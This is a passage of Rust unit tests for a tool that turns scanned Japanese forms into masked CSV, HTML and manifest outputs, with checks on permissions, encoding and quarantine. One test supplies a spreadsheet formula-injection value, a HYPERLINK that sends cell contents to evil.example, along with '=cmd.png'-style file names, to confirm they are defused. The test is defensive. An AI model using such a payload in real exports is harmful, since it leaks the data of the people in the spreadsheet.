            "records.jsonl",
            "manifest.json",
        ] {
            let mode = std::fs::metadata(b.join(name))
                .unwrap()
                .permissions()
                .mode()
                & 0o777;
            assert_eq!(mode, 0o600, "{name}");
        }
        let html = std::fs::read_to_string(b.join("report.html")).unwrap();
        assert!(!html.contains("http://") && !html.contains("https://"));
        assert!(html.contains("data:image/png;base64,"));
        for name in ["report.html", "records.jsonl", "mismatches.csv"] {
            let text = String::from_utf8_lossy(&std::fs::read(b.join(name)).unwrap()).into_owned();
            assert!(
                !text.contains("123456789018"),
                "{name} shows a full My Number"
            );
        }
        let jsonl = std::fs::read_to_string(b.join("records.jsonl")).unwrap();
        assert_eq!(jsonl.lines().count(), 2);
        assert!(jsonl.contains("********9018"));
        assert!(matches!(
            write_batch(dir.path(), "b1", &[template()], &[], &[], &info),
            Err(EmitError::BatchExists(_))
        ));
    }

    fn info() -> BatchInfo {
        BatchInfo {
            reader: ReaderInfo {
                name: "test".into(),
                version: "0".into(),
            },
            encoding: None,
            started: "now".into(),
            lang: Lang::Ja,
        }
    }

    fn mode(p: &Path) -> u32 {
        std::fs::metadata(p).unwrap().permissions().mode() & 0o777
    }

    /// Issue 15, item 3: a name CP932 cannot hold (an emoji, or a byte
    /// that was not UTF-8, read as U+FFFD) used to fail the whole batch; it
    /// is written with a stand-in, while a value read from the form that
    /// CP932 cannot hold still stops the CSV.
    #[test]
    fn a_name_cp932_lacks_gets_a_stand_in_and_a_read_value_still_fails() {
        let t = template();
        let mut r = record("honcho/scan😀\u{FFFD}.png");
        r.branch = "本町😀".into();
        let mut t2 = t.clone();
        t2.output.columns.push(crate::template::Column {
            header: "受付".into(),
            value: "@branch".into(),
        });
        let bytes = form_csv(&t2, &[&r], "b1", None).unwrap();
        let (text, _, bad) = encoding_rs::SHIFT_JIS.decode(&bytes);
        assert!(!bad);
        assert!(text.ends_with(",honcho/scan〓〓.png,本町〓\r\n"), "{text}");
        r.fields.get_mut("atena_no").unwrap().value = serde_json::json!("00😀2");
        match form_csv(&t2, &[&r], "b1", None) {
            Err(EmitError::Unencodable {
                page,
                column,
                character,
                ..
            }) => assert_eq!((page, column.as_str(), character), (1, "宛名番号", '😀')),
            other => panic!("{other:?}"),
        }
    }

    /// Issue 15, item 14: a reviewer's name or a file name that a
    /// spreadsheet would run as a formula went raw into the import CSV.
    #[test]
    fn names_in_the_import_csv_are_never_formulas() {
        let mut t = template();
        t.output.columns.push(crate::template::Column {
            header: "確認者".into(),
            value: "@reviewer".into(),
        });
        for encoding in [OutputEncoding::Cp932, OutputEncoding::Utf8] {
            let mut r = record("@SUM(1+1).png");
            r.reviewer = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")".into());
            let bytes = form_csv(&t, &[&r], "b1", Some(encoding)).unwrap();
            let text = encoding_rs::SHIFT_JIS.decode(&bytes).0.into_owned();
            let row = text.lines().nth(1).unwrap();
            let cells: Vec<&str> = row.split(',').collect();
            assert_eq!(cells[3], "'@SUM(1+1).png", "{row}");
            assert!(cells[4].starts_with("\"'=HYPERLINK("), "{row}");
            for cell in cells {
                assert!(
                    !cell
                        .trim_start_matches('"')
                        .starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{row}"
                );
            }
        }
    }

    #[test]
    fn utf8_by_template_option_with_lf() {
        let mut t = template();
        t.output.encoding = OutputEncoding::Utf8;
        t.output.line_ending = LineEnding::Lf;
        let r = record("honcho/a.png");
        let bytes = form_csv(&t, &[&r], "b1", None).unwrap();
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "宛名番号,回答,個人番号,元ファイル\n0012,2,123456789018,honcho/a.png\n"
        );
    }

    #[test]
    fn dates_and_multiple_choices_take_the_template_layout() {
        let text = TEST_TEMPLATE_HEAD.to_owned()
            + r#"
[[sides]]
id = "m"
code = 10
read = true
[[sides.fields]]
id = "d"
label = "日"
kind = "date"
label_at_mm = [10.0, 10.0]
era = "reiwa"
boxes = { x_mm = 50.0, y_mm = 50.0, w_mm = 5.5, h_mm = 7.5, gap_mm = 1.5, groups = [2, 2, 2] }
[[sides.fields]]
id = "w"
label = "心配"
kind = "multi"
label_at_mm = [10.0, 60.0]
options = [{ label = "a", code = "A", x_mm = 50.0, y_mm = 60.0, size_mm = 4.0 }, { label = "b", code = "B", x_mm = 60.0, y_mm = 60.0, size_mm = 4.0 }, { label = "c", code = "C", x_mm = 70.0, y_mm = 60.0, size_mm = 4.0 }]
[output]
date_format = "%Y/%m/%d"
multi_separator = "|"
columns = [{ header = "d", value = "d" }, { header = "w", value = "w" }, { header = "p", value = "@page" }, { header = "c", value = "@corrected" }]
"#;
        let t: Template = toml::from_str(&text).unwrap();
        let mut r = PageRecord::new("x.png", 3, "honcho", "ab");
        r.form = Some("t".into());
        r.status = PageStatus::Validated;
        let f = |v: serde_json::Value| FieldResult {
            value: v,
            confidence: 1.0,
            status: FieldStatus::Ok,
        };
        r.fields
            .insert("d".into(), f(serde_json::json!("2026-03-15")));
        r.fields.insert("w".into(), f(serde_json::json!([1, 3])));
        let bytes = form_csv(&t, &[&r], "b1", Some(OutputEncoding::Utf8)).unwrap();
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "d,w,p,c\r\n2026/03/15,A|C,3,0\r\n"
        );
    }

    #[test]
    fn batch_ids_and_forms_are_checked_before_anything_is_written() {
        let dir = tempfile::tempdir().unwrap();
        for id in ["", "../x", ".hidden", "a/b"] {
            assert!(matches!(
                write_batch(dir.path(), id, &[template()], &[], &[], &info()),
                Err(EmitError::BadBatchId(_))
            ));
        }
        let mut r = record("honcho/a.png");
        r.form = Some("other".into());
        let e = write_batch(dir.path(), "b1", &[template()], &[r], &[], &info()).unwrap_err();
        assert!(matches!(e, EmitError::UnknownForm { .. }), "{e}");
        assert!(!dir.path().join("batches/b1").exists());
    }

    #[test]
    fn staff_files_mask_list_quarantine_and_defuse_formulas() {
        let dir = tempfile::tempdir().unwrap();
        let mut bad = record("=cmd.png");
        bad.status = PageStatus::Mismatch;
        bad.fields.get_mut("my_number").unwrap().status = FieldStatus::CheckDigit;
        bad.reasons.push("check_digit:my_number".into());
        let q = QuarantineEntry {
            source: "yatabe/broken.pdf".into(),
            reason: "corrupt: Pdf file is corrupt or truncated: bad xref".into(),
            stored_as: "quarantine/yatabe__broken.pdf".into(),
            copied: true,
        };
        write_batch(dir.path(), "b2", &[template()], &[bad], &[q], &info()).unwrap();
        let b = dir.path().join("batches/b2");
        assert_eq!(mode(&b), 0o700);
        assert_eq!(mode(&dir.path().join("batches")), 0o700);
        let bytes = std::fs::read(b.join("mismatches.csv")).unwrap();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.contains("\n'=cmd.png,1,"), "{text}");
        assert!(text.contains("個人番号=********9018"), "{text}");
        // Japanese headers and sentences; the codes kept in their own column.
        let mut csv = csv::Reader::from_reader(&text.as_bytes()[3..]);
        let head: Vec<String> = csv.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(head[..3], ["ファイル", "ページ", "支所"]);
        assert_eq!(head[6], "理由コード");
        let rows: Vec<csv::StringRecord> = csv.records().map(|r| r.unwrap()).collect();
        assert_eq!(&rows[0][6], "check_digit:my_number");
        assert!(rows[0][5].contains("「個人番号」") && !rows[0][5].contains("check_digit"));
        assert_eq!(&rows[0][4], "要確認");
        assert_eq!(&rows[1][0], "yatabe/broken.pdf");
        assert_eq!(&rows[1][4], "隔離したファイル");
        assert_eq!(
            &rows[1][6],
            "corrupt: Pdf file is corrupt or truncated: bad xref"
        );
        assert!(rows[1][5].contains("壊れて"), "{}", &rows[1][5]);
        let html = std::fs::read_to_string(b.join("report.html")).unwrap();
        assert!(html.contains("Content-Security-Policy"));
        assert!(html.contains("data-reason=\"check_digit:my_number\""));
        let shown = i18n::visible_text(&html);
        assert!(shown.contains("「個人番号」の検査用の数字"), "{shown}");
        let left = i18n::english_words(
            &shown,
            &[
                "=cmd.png",
                "honcho",
                "yatabe/broken.pdf",
                "Pdf file is corrupt or truncated: bad xref",
            ],
        );
        assert!(left.is_empty(), "untranslated in report.html: {left:?}");
        assert!(html.contains("********9018") && !html.contains("123456789018"));
        assert!(!html.contains("http://") && !html.contains("https://"));
        let manifest: serde_json::Value =
            serde_json::from_slice(&std::fs::read(b.join("manifest.json")).unwrap()).unwrap();
        assert_eq!(manifest["counts"]["mismatch"], 1);
        assert_eq!(manifest["counts_by_form"]["t"]["mismatch"], 1);
        assert_eq!(manifest["program"]["version"], env!("CARGO_PKG_VERSION"));
        assert_eq!(manifest["templates"][0]["version"], "1");
        let sha = hex::encode(Sha256::digest(std::fs::read(b.join("t.csv")).unwrap()));
        assert_eq!(manifest["files"]["t.csv"], sha.as_str());
        assert!(!b.parent().unwrap().join(".b2.partial").exists());
    }

    #[test]
    fn quarantine_copies_privately_and_never_overwrites_another_file() {
        let dir = tempfile::tempdir().unwrap();
        let inbox = dir.path().join("inbox");
        std::fs::create_dir_all(inbox.join("honcho")).unwrap();
        let src = inbox.join("honcho/x.pdf");
        std::fs::write(&src, b"not a pdf").unwrap();
        let out = dir.path().join("out");
        let q = quarantine(&out, &src, "honcho/x.pdf", "pdf_unreadable").unwrap();
        let copy = out.join("quarantine/honcho__x.pdf");
        assert_eq!(q.stored_as, "quarantine/honcho__x.pdf");
        assert!(q.copied);
        assert_eq!(std::fs::read(&copy).unwrap(), b"not a pdf");
        assert_eq!(mode(&copy), 0o600);
        assert_eq!(mode(&out.join("quarantine")), 0o700);
        let reason = out.join("quarantine/honcho__x.pdf.reason.txt");
        assert_eq!(mode(&reason), 0o600);
        assert!(std::fs::read_to_string(&reason)
            .unwrap()
            .contains("pdf_unreadable"));
        // Next week, a different file under the same name.
        std::fs::write(&src, b"another").unwrap();
        let q2 = quarantine(&out, &src, "honcho/x.pdf", "pdf_unreadable").unwrap();
        assert_eq!(q2.stored_as, "quarantine/2__honcho__x.pdf");
        assert_eq!(std::fs::read(&copy).unwrap(), b"not a pdf");
        // A file that cannot be read leaves a reason, not an empty copy.
        let q3 = quarantine(&out, &inbox.join("gone.png"), "gone.png", "unreadable_file").unwrap();
        assert!(!q3.copied);
        assert!(!out.join("quarantine/gone.png").exists());
        assert!(
            std::fs::read_to_string(out.join("quarantine/gone.png.reason.txt"))
                .unwrap()
                .contains("not copied")
        );
    }
}
